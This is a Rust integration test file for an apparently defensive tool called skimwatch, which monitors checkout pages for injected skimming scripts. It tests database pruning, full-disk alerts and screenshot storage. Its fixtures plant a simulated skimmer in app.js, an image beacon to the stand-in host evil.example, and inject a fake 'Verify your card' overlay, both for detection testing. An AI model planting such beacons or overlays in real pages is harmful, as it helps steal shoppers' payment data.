//! Disk stays bounded: pruning keeps what a baseline, an open finding or the last scans need; a full disk is an alert.
//!
//! A page that changes its inline code on every load makes every scan store a new script body
//! (data literals alone do not: volatile inline code is stored once per normalized form): without pruning the database grows until the disk is full, and then the
//! monitor would be blind. These tests run the real binary against real SQLite files and
//! count the bodies in the file itself.

use crate::util::smtp::SmtpServer;
use crate::util::{describe, findings_of, Workspace};
use skimwatch::model::{FindingKind, PageStatus};
use skimwatch_testshop::{Origin, Resource, Shop};
use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// A page on the shop origin, with `[storage]` keys added to the workspace config.
fn workspace(shop: Shop, path: &str, storage_keys: &str, extra: &str) -> Workspace {
    let url = shop.url(Origin::Shop, path);
    let ws =
        Workspace::with_page_config(shop, "nonce", &url, &format!("interact = \"none\"\nsettle = \"300ms\"\n{extra}"));
    let text = std::fs::read_to_string(&ws.config).unwrap();
    let text = text.replacen("baselines = \"baselines\"\n", &format!("baselines = \"baselines\"\n{storage_keys}"), 1);
    std::fs::write(&ws.config, text).unwrap();
    ws
}

fn database(ws: &Workspace) -> PathBuf {
    ws.dir.path().join("state/skimwatch.db")
}

/// (bodies with their text, bodies pruned to their hash), read from the SQLite file.
fn bodies(ws: &Workspace) -> (u64, u64) {
    let conn = rusqlite::Connection::open(database(ws)).unwrap();
    conn.query_row("SELECT count(*) - count(pruned_at), count(pruned_at) FROM script_bodies", [], |r| {
        Ok((r.get(0)?, r.get(1)?))
    })
    .unwrap()
}

/// Whether the body with this SHA-256 still has its text in the database.
fn has_text(ws: &Workspace, sha256: &str) -> bool {
    let conn = rusqlite::Connection::open(database(ws)).unwrap();
    conn.query_row("SELECT source != '' AND pruned_at IS NULL FROM script_bodies WHERE sha256 = ?1", [sha256], |r| {
        r.get(0)
    })
    .unwrap_or(false)
}

/// A checkout page whose inline script carries a fresh value on every load, plus `/app.js`. The
/// value sits where normalization keeps literals (a comparison): the code itself changes per
/// load, as an attacker filling the disk would make it, so every scan stores a new body. (A
/// nonce in a data position is stored once: see `quiet::volatile…`.)
fn nonce_page(shop: &Shop) -> Arc<AtomicU64> {
    let loads = Arc::new(AtomicU64::new(0));
    let counter = loads.clone();
    shop.set_dynamic(Origin::Shop, "/nonce-checkout", move |_| {
        let n = counter.fetch_add(1, Ordering::SeqCst);
        Resource::html(format!(
            "<!doctype html><html><head><script src=\"/app.js\"></script></head><body><h1>Pay</h1>\
             <script>if (location.hash === \"#{:016x}\") document.title = \"checkout\";</script>\
             </body></html>",
            n.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5bd1_e995
        ))
    });
    shop.set_resource(
        Origin::Shop,
        "/app.js",
        Resource::js("window.app = { version: 1, pay: function () { return 'ok'; } };\n"),
    );
    loads
}

#[test]
fn nonce_page_stores_a_new_body_each_scan_and_pruning_keeps_it_bounded() {
    let shop = Shop::start_in_background().expect("start the test shop");
    let loads = nonce_page(&shop);
    let ws = workspace(shop, "/nonce-checkout", "keep = 2\n", "");
    ws.approved_baseline();
    // The approved bodies: app.js v1 and the first nonce's inline script.
    let baseline = std::fs::read_to_string(ws.dir.path().join("baselines/nonce.toml")).unwrap();
    let approved: Vec<String> = baseline
        .lines()
        .filter_map(|l| l.strip_prefix("sha256 = \"").map(|s| s.trim_end_matches('"').to_string()))
        .collect();
    assert_eq!(approved.len(), 2, "{baseline}");

    // The attacker alters app.js: an open finding that stays until someone approves it.
    ws.shop.set_resource(
        Origin::Shop,
        "/app.js",
        Resource::js("window.app = { version: 2, pay: function () { new Image().src = '//evil.example/?' + 1; return 'ok'; } };\n"),
    );
    let scans = 7;
    let mut last = None;
    for _ in 0..scans {
        let (code, report) = ws.scan(&[]);
        assert_eq!(code, 1, "every scan reports the open change and the new nonce: {}", describe(&report));
        last = Some(report);
    }
    assert!(loads.load(Ordering::SeqCst) > scans, "the page was loaded for every scan");
    let report = last.unwrap();
    let altered = findings_of(&report, FindingKind::AlteredScript);
    let app = altered
        .iter()
        .find(|f| f.script.as_ref().is_some_and(|s| s.id.ends_with("/app.js")))
        .unwrap_or_else(|| panic!("app.js is reported altered: {}", describe(&report)));
    assert!(app.diff.as_deref().is_some_and(|d| d.contains("evil.example")), "the diff is still shown: {app:#?}");
    let open_sha = app.script.as_ref().unwrap().sha256.clone();

    // 1 + 7 scans saw 2 + 1 + 7 distinct bodies; kept: the 2 approved ones, app.js v2 (the
    // open finding and the last scans) and the nonces of the last 2 scans.
    let (kept, pruned) = bodies(&ws);
    assert_eq!((kept, pruned), (5, 5), "bounded to keep + baseline + open finding");
    for sha in &approved {
        assert!(has_text(&ws, sha), "the approved body {sha} is kept");
    }
    assert!(has_text(&ws, &open_sha), "the open finding's body is kept");

    // The tamper-evident log still verifies with the pruned bodies.
    let out = ws.skimwatch().args(["log", "verify"]).output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    // `status` shows the database size and the prune.
    let out = ws.skimwatch().args(["status"]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("database: ") && text.contains("5 pruned"), "{text}");
    assert!(text.contains("last prune: 20"), "{text}");

    // More scans: still bounded.
    for _ in 0..3 {
        ws.scan(&[]);
    }
    assert_eq!(bodies(&ws).0, 5);
}

/// A page whose scripts are larger than the database budget left.
fn large_script_page(shop: &Shop) {
    // Not compressible, so SQLite cannot store it in fewer pages.
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    let mut blob = String::with_capacity(400_000);
    while blob.len() < 400_000 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        blob.push_str(&format!("{x:016x}"));
    }
    shop.set_resource(
        Origin::Shop,
        "/big-checkout",
        Resource::html("<!doctype html><html><head><script src=\"/big.js\"></script></head><body>Pay</body></html>"),
    );
    shop.set_resource(Origin::Shop, "/big.js", Resource::js(format!("window.blob = \"{blob}\";\n")));
}

#[test]
fn full_database_is_a_scan_error_naming_the_database_and_the_fix() {
    let shop = Shop::start_in_background().expect("start the test shop");
    large_script_page(&shop);
    let ws = workspace(shop, "/big-checkout", "max_database_size = \"128 KiB\"\n", "");
    let out = ws.skimwatch().args(["scan", "--format", "json"]).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let report: skimwatch::model::ScanReport = serde_json::from_str(&stdout).unwrap();
    assert_eq!(out.status.code(), Some(3), "a scan that cannot be stored is a scan error: {stdout}");
    let page = &report.pages[0];
    assert_eq!(page.status, PageStatus::Error, "never reported as clean or as a change: {stdout}");
    let error = page.error.as_deref().unwrap_or_default();
    let db = database(&ws).display().to_string();
    assert!(error.contains(&format!("the database {db} is full")), "names the database: {error}");
    assert!(error.contains("free disk space") && error.contains("[storage] keep"), "says what to do: {error}");
    // Nothing was recorded as a successful scan.
    let conn = rusqlite::Connection::open(database(&ws)).unwrap();
    let ok: i64 = conn.query_row("SELECT count(*) FROM scans WHERE status = 'ok'", [], |r| r.get(0)).unwrap();
    assert_eq!(ok, 0);
}

#[test]
fn full_database_in_watch_mails_a_storage_full_alert() {
    let shop = Shop::start_in_background().expect("start the test shop");
    large_script_page(&shop);
    let smtp = SmtpServer::start();
    let email = format!(
        "\n[alerts]\nretry = \"1s\"\n\n[alerts.email]\nsmtp = \"smtp://127.0.0.1:{}\"\nfrom = \"skimwatch <skimwatch@shop.example>\"\nto = [\"secops@shop.example\"]\n",
        smtp.port()
    );
    let ws = workspace(shop, "/big-checkout", "max_database_size = \"128 KiB\"\n", &email);
    let out = ws.skimwatch().args(["watch", "--once"]).env("SKIMWATCH_LOG", "skimwatch=info").output().unwrap();
    let log = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "the page was not scanned: {log}");
    let mails = smtp.wait_for(1, Duration::from_secs(60));
    let mail = mails
        .iter()
        .map(|m| String::from_utf8_lossy(&m.data).to_string())
        .find(|m| m.contains("STORAGE FULL"))
        .unwrap_or_else(|| panic!("a storage_full alert is mailed; log:\n{log}"));
    let db = database(&ws).display().to_string();
    assert!(mail.contains("is full") && mail.contains("[storage] keep"), "{mail}");
    assert!(mail.replace("=\r\n", "").contains(&db) || mail.contains("skimwatch.db"), "names the database: {mail}");
}

/// What the shopper saw is kept per scan, content-addressed: an unchanged page adds no
/// picture, a changed one adds one, and pruning keeps only those of the last `keep` scans.
#[test]
fn the_payment_page_screenshot_is_stored_once_for_unchanged_rescans() {
    let shop = Shop::start_in_background().expect("start the test shop");
    let url = shop.checkout_url();
    let ws = Workspace::with_page_config(shop, "checkout", &url, "settle = \"300ms\"\ninteract = \"none\"");
    let shots = |ws: &Workspace| -> (u64, u64, u64) {
        let conn = rusqlite::Connection::open(database(ws)).unwrap();
        conn.query_row(
            "SELECT (SELECT count(*) FROM screenshots), (SELECT count(DISTINCT screenshot) FROM scans),
                    (SELECT count(*) FROM scans WHERE screenshot IS NULL)",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .unwrap()
    };
    for _ in 0..3 {
        ws.scan(&[]);
    }
    let (stored, distinct, without) = shots(&ws);
    assert_eq!((stored, distinct, without), (1, 1, 0), "three scans of an unchanged page, one picture");
    let png: Vec<u8> = rusqlite::Connection::open(database(&ws))
        .unwrap()
        .query_row("SELECT png FROM screenshots", [], |r| r.get(0))
        .unwrap();
    assert!(png.starts_with(b"\x89PNG\r\n"), "a PNG");
    // A visible change (a fake overlay) is a new picture.
    ws.shop.edit(Origin::Shop, "/checkout", |page| {
        let at = page.body.rfind("</body>").unwrap();
        page.body.insert_str(
            at,
            "<div style=\"position:fixed;top:0;left:0;right:0;height:120px;background:#c00\">Verify your card</div>",
        );
    });
    ws.scan(&[]);
    assert_eq!(shots(&ws).0, 2, "the changed page is a second picture");
}
